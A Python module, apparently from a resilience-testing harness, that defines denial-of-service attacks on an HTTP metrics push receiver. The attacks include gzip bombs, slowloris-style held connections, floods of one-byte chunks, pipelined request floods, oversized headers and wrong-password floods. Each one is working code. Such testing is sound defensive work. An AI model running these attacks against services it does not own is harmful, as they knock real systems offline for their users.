"""Attacks on the receiver of pushes over HTTP."""

import base64
import gzip
import select
import socket
import struct
import time
import zlib

from attacks import Attacks
from measure import MIB, answer, reset

ATTACKS = Attacks()

GROUP = "/metrics/job/j"
PROTOBUF = "application/vnd.google.protobuf; proto=io.prometheus.client.MetricFamily; encoding=delimited"


def head(method, path, length=None, **fields):
    """The head of a request; with `length=None` its body is chunked, with a negative one it has none."""
    lines = [f"{method} {path} HTTP/1.1", "Host: a"]
    if length is None:
        lines.append("Transfer-Encoding: chunked")
    elif length >= 0:
        lines.append(f"Content-Length: {length}")
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in fields.items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def request(method, path, body, **fields):
    """A whole request."""
    return head(method, path, len(body), **fields) + body


def push_again_and_again(target, text, times, seconds):
    """One request after another on a kept connection, until `seconds` have passed; the statuses by number."""
    end = time.monotonic() + seconds
    statuses = {}
    last = b""
    connection = target.open_http(120)
    for _ in range(times):
        if time.monotonic() > end:
            break
        try:
            connection.sendall(text)
        except OSError:
            pass
        try:
            status, _, last = answer(connection)
        except OSError:
            status = 0
        statuses[status] = statuses.get(status, 0) + 1
        if status in (0, 400, 408, 413):
            connection.close()
            connection = target.open_http(120)
    connection.close()
    return statuses, last


def repeat(target, parameters, text):
    """Sends a request from several pushers at once; the first says how it was answered."""

    def run(speaks):
        statuses, last = push_again_and_again(target, text, parameters.get("times", 1 << 30), parameters["hold"])
        if speaks:
            target.tell(statuses=statuses, last=last[:160].decode(errors="replace"))

    for index in range(parameters["pushers"]):
        target.attackers.start(run, index == 0)


def varint(number):
    """A number as protobuf writes it."""
    result = bytearray()
    while number > 0x7F:
        result.append(number & 0x7F | 0x80)
        number >>= 7
    result.append(number)
    return bytes(result)


def field(number, content):
    """A field of bytes."""
    return varint(number << 3 | 2) + varint(len(content)) + content


def family(name, kind, metrics):
    """A length-delimited MetricFamily; `metrics` are its fields."""
    content = field(1, name) + b"\x18" + varint(kind) + metrics
    return varint(len(content)) + content


GAUGE, UNTYPED, HISTOGRAM = 1, 3, 4


def long_name(size):
    """A histogram whose name takes half of the size and whose buckets take the rest: its text would have the size of their product."""
    points = b"".join(field(3, b"\x11" + struct.pack("<d", index)) for index in range(size // 22))
    return family(b"a" * (size // 2), HISTOGRAM, field(4, field(7, points)))


def empty_metrics(size):
    """Metrics of two bytes."""
    return family(b"a", GAUGE, b"\x22\x00" * (size // 2))


def empty_labels(size):
    """Labels of two bytes."""
    return family(b"a", GAUGE, field(4, b"\x12\x00" + b"\x0a\x00" * (size // 2)))


def empty_points(size):
    """Buckets of two bytes."""
    return family(b"a", HISTOGRAM, field(4, field(7, b"\x1a\x00" * (size // 2))))


def small_families(size):
    """As many families as fit, in protobuf."""
    return b"".join(family(f"{index:x}".replace("0", "g").rjust(5, "a").encode(), GAUGE, field(4, b"\x12\x00")) for index in range(size // 16))


def letters(index):
    """A name of four letters or more."""
    text = ""
    while index or len(text) < 4:
        text = chr(97 + index % 26) + text
        index //= 26
    return text


def text_families(size):
    """As many families as fit, in text."""
    return "".join(f"{letters(index)} 1\n" for index in range(size // 8)).encode()


def text_samples(size):
    """As many samples of one family as fit, in text."""
    return "".join(f'a{{b="{letters(index)}"}} 1\n' for index in range(size // 15)).encode()


def text_histograms(size):
    """A histogram for each line."""
    return b"# TYPE a histogram\n" + "".join(f'a_sum{{b="{letters(index)}"}} 1\n' for index in range(size // 19)).encode()


def same_samples(size):
    """Samples of four bytes, which are all the same."""
    return b"a 1\n" * (size // 4)


def one_line(size):
    """One line, a name."""
    return b"a" * size


def many_labels(size):
    """One sample with many labels."""
    return ("a{" + ",".join(f'{letters(index)}=""' for index in range(size // 9)) + "} 1\n").encode()


TEXTS = {made.__name__.replace("_", "-"): made for made in (
    text_families, text_samples, text_histograms, same_samples, one_line, many_labels)}
PROTOBUFS = {made.__name__.replace("_", "-"): made for made in (long_name, empty_metrics, empty_labels, empty_points, small_families)}


@ATTACKS.attack("groups", body="text-families", kib=16 * 1024, pushers=2, hold=4, method="PUT", labels=0, coding="", seconds=60)
def groups(target, parameters, _):
    """Groups whose metrics take much more than their bodies: `body` says of what, `labels` the length of the group's labels."""
    make = TEXTS.get(parameters["body"]) or PROTOBUFS[parameters["body"]]
    body = make(parameters["kib"] * 1024 - 256)
    fields = {"Content_Type": PROTOBUF} if parameters["body"] in PROTOBUFS else {}
    if parameters["coding"] == "gzip":
        body = gzip.compress(body, 6)
        fields["Content_Encoding"] = "gzip"
    path = GROUP + ("/l/" + "v" * parameters["labels"] if parameters["labels"] else "")
    repeat(target, parameters, request(parameters["method"], path, body, **fields))


@ATTACKS.attack("giant-group", pushers=2, mib=12, parts=4, hold=5, seconds=60)
def giant_group(target, parameters, _):
    """A group that is made as large as may be, then pushed to with one sample at a time: each push merges."""
    statuses = []
    for part in range(parameters["parts"]):
        lines = "".join(f'f{part}{{b="{letters(index)}"}} 1\n' for index in range(parameters["mib"] * MIB // 16)).encode()
        statuses.append(push_again_and_again(target, request("POST", GROUP, lines), 1, 60))
    target.tell(made=str(statuses))
    repeat(target, parameters, request("POST", GROUP, b"small 1\n"))


@ATTACKS.attack("announced-bodies", pushers=1000, body=1, length=16 * MIB, hold=3)
def announced_bodies(target, parameters, _):
    """The longest body is announced, and a byte of it is sent, on many connections."""

    def hold():
        connections = []
        for _ in range(parameters["pushers"] // 2):
            connection = target.open_http(30)
            connection.sendall(head("PUT", "/apps/announced", parameters["length"]) + b"a" * parameters["body"])
            connections.append(connection)
        time.sleep(parameters["hold"])

    for _ in range(2):
        target.attackers.start(hold)


@ATTACKS.attack("half-bodies", pushers=40, mib=8, hold=3, seconds=60)
def half_bodies(target, parameters, _):
    """Bodies that are almost complete, on many connections: they share a limit."""
    body = b"x" * (parameters["mib"] * MIB)

    def hold():
        connections = []
        for _ in range(parameters["pushers"] // 4):
            connection = target.open_http(30)
            try:
                connection.sendall(head("PUT", "/apps/half", len(body) + 100) + body)
            except OSError:
                pass
            connections.append(connection)
        time.sleep(parameters["hold"])

    for _ in range(4):
        target.attackers.start(hold)


@ATTACKS.attack("kept-pushers", pushers=400, mib=1, hold=1, seconds=60)
def kept_pushers(target, parameters, _):
    """Many connections push something large, once and one after another, and stay open."""
    text = request("PUT", "/apps/kept", b"#" * (parameters["mib"] * MIB - 1) + b"\n")

    def hold():
        connections, statuses = [], {}
        for _ in range(parameters["pushers"]):
            connection = target.open_http(30)
            connection.sendall(text)
            status, _, _ = answer(connection)
            statuses[status] = statuses.get(status, 0) + 1
            connections.append(connection)
        target.tell(statuses=statuses)
        time.sleep(parameters["hold"])

    target.attackers.start(hold)


@ATTACKS.attack("tiny-chunks", pushers=2, hold=3, chunk="1\r\na\r\n", chunks=1_000_000, seconds=30)
def tiny_chunks(target, parameters, _):
    """Chunks of one byte."""
    chunk = parameters["chunk"].encode().decode("unicode_escape").encode()

    def send():
        end = time.monotonic() + parameters["hold"]
        while time.monotonic() < end:
            connection = target.open_http(30)
            try:
                connection.sendall(head("PUT", "/apps/chunks"))
                for _ in range(parameters["chunks"] // 5000):
                    connection.sendall(chunk * 5000)
                    if time.monotonic() > end:
                        return
                connection.sendall(b"0\r\n\r\n")
                answer(connection)
            except OSError:
                pass
            connection.close()

    for _ in range(parameters["pushers"]):
        target.attackers.start(send)


@ATTACKS.attack("zipped", kind="bomb", pushers=40, mib=64, hold=4, path="/apps/zipped", seconds=60)
def zipped(target, parameters, _):
    """Bodies in gzip: far larger uncompressed (`bomb`), a series of empty members (`empty`) or of members of one byte (`members`)."""
    kind = parameters["kind"]
    if kind == "bomb":
        body = gzip.compress(b"a" * (parameters["mib"] * MIB), 9)
    elif kind == "fits":
        body = gzip.compress(b"# " + b"a" * (15 * MIB), 9)
    elif kind == "empty":
        body = gzip.compress(b"") * (parameters["mib"] * MIB // 20)
    elif kind == "members":
        body = gzip.compress(b"\n") * (parameters["mib"] * MIB // 21)
    else:
        packer = zlib.compressobj(0, wbits=31)
        body = packer.compress(b"") + b"\0\0\0\xff\xff" * (parameters["mib"] * MIB // 5) + packer.flush()
    text = request("PUT", parameters["path"], body, Content_Encoding="gzip")

    def run(speaks):
        statuses, last = push_again_and_again(target, text, 1 << 30, parameters["hold"])
        if speaks:
            target.tell(statuses=statuses, last=last[:160].decode(errors="replace"))

    for index in range(parameters["pushers"]):
        target.attackers.start(run, index == 0)


@ATTACKS.attack("small-bodies", body="objects", kib=63, pushers=4, hold=4, depth=1, seconds=30)
def small_bodies(target, parameters, _):
    """Bodies that are just small enough for an event loop, of parts that cost the most; `depth` are sent before an answer is read."""
    size = parameters["kib"] * 1024
    kind = parameters["body"]
    path, method, fields = "/apps", "POST", {}
    if kind == "objects":
        body = b"{}" * (size // 2)
    elif kind == "apps":
        body = b"{" + ",".join(f'"{letters(index)}":""' for index in range(min(999, size // 10))).encode() + b"}"
    elif kind == "object-apps":
        body = "".join(f'{{"{letters(index)}":""}}' for index in range(size // 11)).encode()
    elif kind == "spaces":
        body = b"{}" + b" " * size
    elif kind == "wrong":
        body = b'{"a":"' + b"a" * size + b'"]'
    elif kind == "lines":
        # With app_label each line gets 255 escaped quotes.
        path, method, body = "/apps/" + "%22" * 255, "PUT", b"a 1\n" * (size // 4)
    elif kind in TEXTS:
        path, method, body = GROUP, "PUT", TEXTS[kind](size)
    else:
        path, method, body, fields = GROUP, "PUT", PROTOBUFS[kind](size), {"Content_Type": PROTOBUF}
    text = request(method, path, body, **fields)

    def run(speaks):
        end = time.monotonic() + parameters["hold"]
        count = {}
        last = b""
        connection = target.open_http(30)
        while time.monotonic() < end:
            connection.sendall(text * parameters["depth"])
            for _ in range(parameters["depth"]):
                status, _, last = answer(connection)
                count[status] = count.get(status, 0) + 1
        if speaks:
            target.tell(statuses=count, last=last[:160].decode(errors="replace"))

    for index in range(parameters["pushers"]):
        target.attackers.start(run, index == 0)


@ATTACKS.attack("pipelined-pushes", pushers=2, hold=4, kind="put", reads=1, seconds=30)
def pipelined_pushes(target, parameters, _):
    """Pushes by the thousand that do not wait for answers; with `reads=0` no answer is read."""
    kinds = {
        "put": request("PUT", "/apps/p", b"a 1\n"),
        "delete": head("DELETE", "/apps/none", -1),
        "both": request("PUT", "/apps/p", b"a 1\n") + head("DELETE", "/apps/p", -1),
        "group": request("POST", GROUP, b"a 1\n"),
        "wrong": request("POST", "/apps", b"wrong"),
        "page": head("GET", "/", -1),
        "groups": b"".join(request("PUT", f"/metrics/job/{index}", b"") for index in range(1000)),
    }
    block = kinds[parameters["kind"]]
    block *= max(1, (64 << 10) // len(block))

    def run():
        end = time.monotonic() + parameters["hold"]
        while time.monotonic() < end:
            send(target.open_http(30), end)

    def send(connection, end):
        connection.setblocking(False)
        rest = b""
        try:
            while time.monotonic() < end:
                readable, writable, _ = select.select([connection] if parameters["reads"] else [], [connection], [], 0.1)
                if readable and not connection.recv(1 << 18):
                    break
                if writable:
                    rest = rest or block
                    # In pieces, so that answers are read in between.
                    rest = rest[connection.send(rest[: 32 << 10]) :]
        except OSError:
            pass
        connection.close()

    for _ in range(parameters["pushers"]):
        target.attackers.start(run)


@ATTACKS.attack("many-groups", pushers=2, groups=100_000, hold=8, seconds=60)
def many_groups(target, parameters, _):
    """A group for each push, up to `max_apps` and beyond."""

    def run(first):
        connection = target.open_http(60)
        end = time.monotonic() + parameters["hold"]
        count = {}
        for begin in range(first, parameters["groups"], 100 * parameters["pushers"]):
            connection.sendall(b"".join(request("PUT", f"/metrics/job/{begin + index}", b"a 1\n") for index in range(100)))
            left = 100
            received = b""
            while left:
                received += connection.recv(1 << 18)
                left = 100 - received.count(b"HTTP/1.1")
            for status in (b"200", b"507"):
                count[status.decode()] = count.get(status.decode(), 0) + received.count(b"HTTP/1.1 " + status)
            if time.monotonic() > end:
                break
        if not first:
            target.tell(statuses=count)

    for index in range(parameters["pushers"]):
        target.attackers.start(run, index * 100)


@ATTACKS.attack("all-apps", pushers=1, apps=99_000, times=4, hold=20, text="", seconds=60)
def all_apps(target, parameters, _):
    """One message with as many apps as may be, again and again."""
    body = "{" + ",".join(f'"{letters(index)}":"{parameters["text"]}"' for index in range(parameters["apps"])) + "}"
    repeat(target, parameters, request("POST", "/apps", body.encode()))


@ATTACKS.attack("merged-groups", lines=180_000, times=300, hold=4, seconds=60)
def merged_groups(target, parameters, _):
    """A large group, and then many tiny pushes to it whose connections are reset at once. Tells how long a large push of another client
    takes after that."""
    connection = target.open_http(60)
    connection.sendall(request("PUT", "/metrics/job/big", b"".join(b"m%d %d\n" % (index, index) for index in range(parameters["lines"]))))
    answer(connection)
    text = request("POST", "/metrics/job/big", b"b1000 1\n")

    def run():
        for _ in range(parameters["times"]):
            tiny = target.open_http(30)
            tiny.sendall(text)
            reset(tiny)
        begin = time.monotonic()
        statuses, last = push_again_and_again(target, request("PUT", "/apps/victim", b"victim 1\n" * 50_000), 1, parameters["hold"])
        target.tell(statuses=statuses, last=last[:160].decode(errors="replace"), took=time.monotonic() - begin)

    target.attackers.start(run)


@ATTACKS.attack("guessed-pushes", pushers=200, hold=4, mib=1)
def guessed_pushes(target, parameters, _):
    """Wrong passwords, each with a body behind it."""

    def run(number):
        end = time.monotonic() + parameters["hold"]
        body = b"a" * (parameters["mib"] * MIB)
        while time.monotonic() < end:
            connections = []
            for _ in range(parameters["pushers"] // 4):
                number += 1
                word = base64.b64encode(f"push:wrong {number}".encode()).decode()
                connection = target.open_http(30)
                connection.setblocking(False)
                try:
                    connection.send(request("PUT", "/apps/guess", body, Authorization=f"Basic {word}"))
                except OSError:
                    pass
                connections.append(connection)
            time.sleep(0.5)
            for connection in connections:
                connection.close()

    for index in range(4):
        target.attackers.start(run, index * 1_000_000)


@ATTACKS.attack("unused-continue", pushers=1000, hold=3)
def unused_continue(target, parameters, _):
    """Clients that ask whether to send a body, and never do."""

    def hold():
        connections = []
        for _ in range(parameters["pushers"]):
            connection = target.open_http(30)
            connection.sendall(head("PUT", "/apps/asking", 16 * MIB, Expect="100-continue"))
            connections.append(connection)
        time.sleep(parameters["hold"])

    target.attackers.start(hold)


@ATTACKS.attack("heavy-heads", pushers=4, hold=4, kind="type", seconds=30)
def heavy_heads(target, parameters, _):
    """Heads that are as large as they may be, of fields that are taken apart."""
    if parameters["kind"] == "type":
        text = head("PUT", "/apps/h", 0, Content_Type="a/b" + ";a=b" * 3900)
    elif parameters["kind"] == "path":
        text = head("PUT", "/metrics/job/a" + "/b/c" * 1900, 0)
    elif parameters["kind"] == "base64":
        text = head("PUT", "/metrics/job@base64/" + "YWFh" * 1900, 0)
    elif parameters["kind"] == "percent":
        text = head("PUT", "/apps/" + "%C3%A9" * 1300, 0)
    else:
        text = head("PUT", "/apps/h", 0, Origin="a" * 8000, Connection="a," * 3800)
    repeat(target, parameters, text)


@ATTACKS.attack("reset-pushes", pushers=4, hold=4, at="body", seconds=30)
def reset_pushes(target, parameters, _):
    """Connections that are reset while their push is read, decoded, or its password checked."""
    body = b"a 1\n" * (MIB // 2)
    kinds = {
        "head": head("PUT", "/apps/r", len(body)),
        "body": head("PUT", "/apps/r", len(body)) + body[: len(body) // 2],
        "decoding": request("PUT", GROUP, text_samples(MIB)),
        "password": request("PUT", "/apps/r", body, Authorization="Basic cHVzaDp3cm9uZw=="),
    }
    text = kinds[parameters["at"]]

    def run():
        end = time.monotonic() + parameters["hold"]
        while time.monotonic() < end:
            connection = target.open_http(30)
            try:
                connection.sendall(text)
            except OSError:
                pass
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.close()

    for _ in range(parameters["pushers"]):
        target.attackers.start(run)
